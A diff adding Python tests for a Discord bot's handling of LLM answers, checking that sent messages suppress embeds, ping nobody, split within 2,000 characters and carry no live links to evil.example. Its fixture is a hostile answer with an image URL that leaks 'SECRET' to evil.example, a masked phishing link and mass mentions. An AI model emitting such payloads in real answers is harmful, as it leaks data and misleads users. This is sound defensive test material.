@@ -725,3 +725,144 @@ async def test_workspace_command_of_a_user_sharing_no_server_says_how_to_get_acc
 
     [reply] = sim.interaction_replies(command["id"])
     assert "only answer questions for servers we share" in str(reply.body)
+
+
+# --- what goes out: rendered safely, split within 2,000 characters, no pings, no embeds ----------
+
+SHARED_CASES = Path(__file__).resolve().parents[2] / "shared" / "cases"
+HOSTILE_ANSWER = (
+    "Reset it here: [https://help.acme.example/reset](https://evil.example/login) [1] "
+    "![x](https://evil.example/p.png?q=SECRET)\n\n"
+    "Ping @everyone @here <@123456789012345678> <@&123456789012345678> <!channel> and "
+    "<https://evil.example|the official page> or https://evil.example/bare [1].\n\n"
+    "```python\ndef f(**kwargs):  # <@1> stays as written\n    pass\n```"
+)
+SUPPRESS_EMBEDS, EPHEMERAL = 4, 64
+
+
+def _sent_bodies(sim: DiscordSimulator) -> list[dict[str, Any]]:
+    """Every message body the bot sent: channel posts, interaction callbacks and followups."""
+    bodies = []
+    for call in sim.calls("POST"):
+        channel_post = call.path.startswith("/channels/") and call.path.endswith("/messages")
+        if channel_post or call.path.startswith("/webhooks/"):
+            bodies.append(call.body)
+        elif call.path.endswith("/callback") and call.body.get("type") == 4:
+            bodies.append(call.body["data"])
+    return bodies
+
+
+def _assert_sent_safely(body: dict[str, Any]) -> None:
+    from tests.chat_checks import bare_addresses, fences_balanced, live_links, pings
+
+    content = body.get("content") or ""
+    assert body.get("flags", 0) & SUPPRESS_EMBEDS, body
+    assert body["allowed_mentions"]["parse"] == [], body
+    assert not body["allowed_mentions"].get("users") and not body["allowed_mentions"].get("roles")
+    assert len(content) <= 2_000 and fences_balanced(content)
+    assert pings(content, "discord") == [], content
+    assert bare_addresses(content, "discord") == [], content
+    assert not any("evil.example" in url for url, _ in live_links(content, "discord")), content
+
+
+async def test_answers_in_dms_and_servers_ping_nobody_embed_nothing_and_link_nowhere_else(
+    start_bot: StartBot, sim: DiscordSimulator, llm: OpenAIChatSimulator
+):
+    llm.responder = lambda messages: HOSTILE_ANSWER
+    await start_bot()
+
+    await dm(sim, ALICE, ALICE_DM, "How do I reset my password?")
+    question = sim.message_create(ACME_GENERAL, ALICE, "How do I reset it?", mention_bot=True)
+    await sim.dispatch("MESSAGE_CREATE", question)
+
+    [in_dm] = await bot_messages(sim, ALICE_DM)
+    [in_server] = await bot_messages(sim, ACME_GENERAL)
+    bodies = _sent_bodies(sim)
+    assert len(bodies) == 2
+    for body in bodies:
+        _assert_sent_safely(body)
+    for message in (in_dm, in_server):
+        assert message["flags"] & SUPPRESS_EMBEDS and message["embeds"] == []
+        assert not message["mention_everyone"] and message["mentions"] == []
+        assert message["mention_roles"] == []
+        assert (
+            "```python\ndef f(**kwargs):  # <@1> stays as written\n    pass\n```"
+            in (message["content"])
+        )
+
+
+async def test_the_long_fenced_answer_is_sent_as_balanced_parts_each_a_valid_message(
+    start_bot: StartBot, sim: DiscordSimulator, llm: OpenAIChatSimulator
+):
+    answer = (SHARED_CASES / "long-fenced-answer" / "answer.md").read_text(encoding="utf-8")
+    llm.responder = lambda messages: answer
+    await start_bot()
+
+    await dm(sim, ALICE, ALICE_DM, "What does the full agent configuration look like?")
+
+    parts = await bot_messages(sim, ALICE_DM, count=3)
+    await quiet()
+    assert len(sim.sent_messages(ALICE_DM)) == 3
+    for body in _sent_bodies(sim):
+        _assert_sent_safely(body)
+    sizes = [len(p["content"]) for p in parts]
+    assert min(sizes) > 0.8 * max(sizes), sizes
+    assert all(p["content"].startswith("```yaml\nsetting_") for p in parts[1:])
+    shown = [line for p in parts for line in p["content"].split("\n") if line[:8] == "setting_"]
+    assert shown == [line for line in answer.split("\n") if line.startswith("setting_")]
+    assert "**Sources**" in parts[-1]["content"]
+
+
+async def test_ask_public_and_private_answers_go_out_safe_and_without_embeds(
+    start_bot: StartBot, sim: DiscordSimulator, llm: OpenAIChatSimulator
+):
+    long_answer = HOSTILE_ANSWER + "\n\n" + "\n\n".join(["More detail here [1]. " * 20] * 8)
+    llm.responder = lambda messages: long_answer
+    await start_bot()
+
+    public = sim.interaction(
+        "ask", user=ALICE, channel_id=ACME_GENERAL, options={"question": "How do I reset it?"}
+    )
+    private = sim.interaction(
+        "ask", user=ALICE, channel_id=ACME_GENERAL,
+        options={"question": "How do I reset it?", "private": True},
+    )  # fmt: skip
+    await sim.dispatch("INTERACTION_CREATE", public)
+    await sim.dispatch("INTERACTION_CREATE", private)
+    await sim.wait_for_call("POST", "/webhooks/*", count=4, timeout=20)
+    await quiet()
+
+    for interaction, ephemeral in ((public, False), (private, True)):
+        followups = [r for r in sim.interaction_replies(interaction["id"]) if r.kind == "followup"]
+        assert len(followups) >= 2  # split: more than 2,000 characters
+        for reply in followups:
+            _assert_sent_safely(reply.body)
+            assert bool(reply.body.get("flags", 0) & EPHEMERAL) is ephemeral
+
+
+async def test_notices_workspace_replies_and_apologies_ping_nobody_and_embed_nothing(
+    start_bot: StartBot, sim: DiscordSimulator, llm: OpenAIChatSimulator
+):
+    await start_bot()
+
+    await dm(sim, CAROL, CAROL_DM, "hello?")  # shares no server: how to get access
+    setup = sim.message_create(EMPTY_CHANNEL, ALICE, "How do refunds work?", mention_bot=True)
+    await sim.dispatch("MESSAGE_CREATE", setup)  # a server without knowledge: setup notice
+    llm.fail_next(3, status=500)
+    await dm(sim, ALICE, ALICE_DM, "What is the API rate limit?")  # the apology
+    choose = sim.interaction(
+        "workspace", user=BOB, channel_id=BOB_DM, options={"name": "@everyone <@&42> `x`"}
+    )
+    await sim.dispatch("INTERACTION_CREATE", choose)
+    await bot_messages(sim, CAROL_DM)
+    await bot_messages(sim, EMPTY_CHANNEL)
+    [apology] = await bot_messages(sim, ALICE_DM)
+    await sim.wait_for_call("POST", "/interactions/*", timeout=10)
+
+    bodies = _sent_bodies(sim)
+    assert len(bodies) == 4
+    for body in bodies:
+        _assert_sent_safely(body)
+    assert apology["content"].startswith("Sorry, I couldn't answer")
+    [reply] = sim.interaction_replies(choose["id"])
+    assert "is not the workspace of a server we share" in reply.body["data"]["content"]
